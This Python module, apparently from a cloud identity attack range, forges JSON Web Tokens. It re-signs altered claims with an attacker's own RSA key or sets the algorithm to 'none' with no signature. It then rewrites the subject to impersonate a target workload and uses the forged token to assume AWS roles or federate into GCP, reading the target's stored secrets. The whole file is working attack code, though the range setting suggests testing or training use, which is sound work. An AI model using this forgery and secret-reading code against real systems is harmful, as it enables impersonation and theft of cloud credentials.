"""Tokens as an attacker makes them: from a genuine one, with what it takes changed."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from scenarios import workloads

if TYPE_CHECKING:
    from collections.abc import Mapping

    from iamrange.core.scenario import Taken


def encode(value: bytes) -> str:
    """Return base64url without padding (RFC 7515 section 2)."""
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


def _decode(part: str) -> dict[str, Any]:
    padded = part + "=" * (-len(part) % 4)
    value: dict[str, Any] = json.loads(base64.urlsafe_b64decode(padded))
    return value


def _signing_input(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    return ".".join(encode(json.dumps(part).encode()) for part in (header, claims))


def signed_by_attacker(genuine: str | None, changes: Mapping[str, Any]) -> str:
    """Return the token with claims changed, signed by a key of the attacker's under its key id."""
    header, claims, _ = (genuine or "").split(".")
    unsigned = _signing_input({**_decode(header), "alg": "RS256"}, {**_decode(claims), **changes})
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    signature = key.sign(unsigned.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{unsigned}.{encode(signature)}"


def unsigned(genuine: str | None, changes: Mapping[str, Any]) -> str:
    """Return the token with claims changed, under the algorithm `none` and with no signature."""
    header, claims, _ = (genuine or "").split(".")
    return f"{_signing_input({**_decode(header), 'alg': 'none'}, {**_decode(claims), **changes})}."


def as_target(foothold: Taken) -> dict[str, str]:
    """Return the claims that make a token say that its bearer is the target."""
    return {"sub": foothold.knows["target.spiffe_id"], "agent": foothold.knows["target.name"]}


def use_at_aws(token: str | None, foothold: Taken) -> str:
    """Assume the target's role with the token, and read the target's secret."""
    session = workloads.assume_with_token(
        token, foothold.knows["target.aws_role_arn"], name="forged"
    )
    return workloads.read_aws_secret(
        workloads.aws_session(session), foothold.knows["target.aws_secret_arn"]
    )


def use_at_gcp(token: str | None, foothold: Taken) -> str:
    """Federate with the token, impersonate the target's account and read the target's secret."""
    credentials = workloads.federate_with_token(
        token, foothold.knows["gcp.provider"], foothold.knows["target.gcp_service_account"]
    )
    return workloads.read_gcp_secret(credentials, foothold.knows["target.gcp_secret"])


AT_AWS = ("target.spiffe_id", "target.name", "target.aws_role_arn", "target.aws_secret_arn")
AT_GCP = (
    "target.spiffe_id",
    "target.name",
    "gcp.provider",
    "target.gcp_service_account",
    "target.gcp_secret",
)
